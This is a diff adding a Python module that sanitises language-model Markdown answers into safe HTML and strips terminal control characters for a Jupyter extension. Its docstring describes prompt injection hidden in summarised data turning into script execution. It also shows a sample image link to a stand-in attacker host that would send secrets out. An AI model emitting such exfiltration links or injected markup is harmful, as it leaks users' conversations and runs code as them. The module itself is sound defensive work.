@@ -1,0 +1,140 @@
+"""The one place that turns text from a model or a server into something safe to show.
+
+Why this exists: JupyterLab trusts every output a kernel produces live (and a notebook
+is marked trusted again when the user saves it), so ``text/markdown`` or ``text/html``
+holding a model's raw answer runs any ``<script>``, ``onerror=`` or ``javascript:`` in
+it, as the user, with the page's XSRF cookie.  A prompt injection hidden in the data
+being summarised would then be code execution.  So:
+
+- :func:`markdown_to_safe_html`: the Markdown is rendered here, in the kernel, by
+  markdown-it-py (CommonMark, raw HTML **off**: ``<script>`` stays text), and the result
+  is sanitised by nh3 (ammonia) with a small allow-list, in case a renderer rule ever
+  lets something through.  Rendering here rather than escaping HTML and sending
+  ``text/markdown`` because then the frontend's Markdown dialect (and its own raw-HTML
+  handling) would still decide what runs; here one well-kept parser and one sanitiser do.
+  Math (``$…$``, ``$$…$$``, ``\\(…\\)``, ``\\[…\\]``) is kept out of emphasis processing and
+  sent, HTML-escaped, between ``\\(…\\)`` / ``\\[…\\]`` for JupyterLab's MathJax to typeset.
+  Images become links: an image loads without a click, so an injected
+  ``![](https://evil.example/?q=<secrets>)`` would send the conversation away.
+- :func:`strip_controls`: C0/C1 control characters (ANSI CSI/OSC sequences such as an
+  OSC 52 clipboard write) are removed from everything printed to stdout or sent as
+  ``text/plain``, which terminal IPython and ``jupyter console`` print as they are.
+
+Server-supplied names (model ids, providers) that go into HTML are escaped with
+``html.escape`` like every other figure this package puts into HTML.
+
+Imports only the standard library at load time: markdown-it-py, its plugins and nh3
+are imported on the first answer rendered, so ``%load_ext edge_jupyter`` stays cheap.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+from functools import lru_cache
+from typing import Any
+
+# Everything below U+0020 except TAB and LF, DEL, and the C1 range U+0080-U+009F.
+# CR is dropped too, not turned into LF: a lone CR moves a terminal's cursor back to
+# the start of the line, so later text overwrites (hides) what came before it, and
+# dropping it is the only choice that is the same whether a CRLF arrives in one
+# streamed chunk or is split across two (turning CR into LF would double every split
+# CRLF's line break).  Models end lines with LF; nothing of theirs is lost.
+_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]+")
+
+
+def strip_controls(text: str) -> str:
+    """``text`` without C0/C1 control characters, DEL and CR (TAB and LF kept).
+
+    Runs on every streamed chunk: one compiled regex, and a chunk with nothing to remove
+    (nearly all of them) costs a single scan and is returned as it is.  Measured here on
+    a 90-character chunk: 1.3 µs, against 5.8 µs for ``str.translate`` with a table; on
+    1 MB, 10 ms against 111 ms.
+    """
+    if _CONTROLS.search(text) is None:
+        return text
+    return _CONTROLS.sub("", text)
+
+
+# -- Markdown -------------------------------------------------------------------------------
+
+_TAGS = {"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "del",
+         "code", "pre", "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr",
+         "th", "td", "a", "span", "div"}
+_ALIGN = {"text-align:left", "text-align:center", "text-align:right"}
+_LANGUAGE_CLASS = re.compile(r"language-[\w+#.-]{1,40}")
+# MathJax's html extension turns these into links, classes, styles and ids: text the
+# model chose would then become markup after all, so such math is shown as code instead.
+_UNSAFE_TEX = re.compile(r"\\(?:href|style|class|cssId|data|unicode|require)(?![A-Za-z])")
+
+
+def _allow_attribute(element: str, attribute: str, value: str) -> str | None:
+    """The attribute values markdown-it itself writes; anything else is dropped."""
+    if element == "code" and attribute == "class":
+        return value if _LANGUAGE_CLASS.fullmatch(value) else None
+    if element == "ol" and attribute == "start":
+        return value if value.isdigit() and len(value) < 10 else None
+    return value
+
+
+@lru_cache(maxsize=1)
+def _cleaner() -> Any:
+    import nh3
+
+    return nh3.Cleaner(
+        tags=_TAGS, clean_content_tags={"script", "style"},
+        attributes={"a": {"href", "title"}, "code": {"class"}, "ol": {"start"}},
+        tag_attribute_values={"th": {"style": _ALIGN}, "td": {"style": _ALIGN}},
+        attribute_filter=_allow_attribute, url_schemes={"http", "https", "mailto"},
+        url_relative="deny", link_rel="noopener noreferrer", strip_comments=True)
+
+
+def _math(token: Any, display: bool, block: bool) -> str:
+    if _UNSAFE_TEX.search(token.content):
+        return f"<code>{html.escape(token.markup + token.content + token.markup)}</code>"
+    body = html.escape(token.content)
+    math = f"\\[{body}\\]" if display else f"\\({body}\\)"
+    # "$$…$$" inside a paragraph stays inline markup: a <div> there would end the <p>.
+    return f"<div>{math}</div>\n" if block else f"<span>{math}</span>"
+
+
+@lru_cache(maxsize=1)
+def _markdown() -> Any:
+    from markdown_it import MarkdownIt
+    from mdit_py_plugins.dollarmath import dollarmath_plugin
+    from mdit_py_plugins.texmath import texmath_plugin
+
+    md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+    # "$5 or $10" is money, not math (pandoc's rule): no space just inside a dollar,
+    # no digit just after the closing one.
+    md.use(dollarmath_plugin, allow_space=False, allow_digits=False, double_inline=True,
+           allow_labels=False)
+    md.use(texmath_plugin, delimiters="brackets")  # \(…\) and \[…\] blocks
+    # One rendering for every math token, whichever plugin made it (texmath would
+    # otherwise write <eq>/<eqn>, which no frontend typesets).
+    for name, display, block in (("math_inline", False, False),
+                                 ("math_inline_double", True, False),
+                                 ("math_block", True, True), ("math_block_eqno", True, True),
+                                 ("math_block_label", True, True)):
+        md.add_render_rule(name, lambda self, tokens, idx, options, env, d=display, b=block:
+                           _math(tokens[idx], d, b))
+
+    def text(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
+        # A "$" left in plain text would be paired up by MathJax in the browser
+        # ("costs $5 or $10" typeset as math): alone in its element it cannot be.
+        return html.escape(tokens[idx].content, quote=False).replace("$", "<span>$</span>")
+
+    def image(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
+        token = tokens[idx]
+        alt = self.renderInlineAsText(token.children or [], options, env) or "image"
+        return f'<a href="{html.escape(token.attrGet("src") or "")}">🖼 {html.escape(alt)}</a>'
+
+    md.add_render_rule("text", text)
+    md.add_render_rule("image", image)
+    return md
+
+
+def markdown_to_safe_html(text: str) -> str:
+    """A model's Markdown answer as HTML that cannot run anything in the browser."""
+    html_text = _markdown().render(strip_controls(text))
+    return _cleaner().clean(html_text)
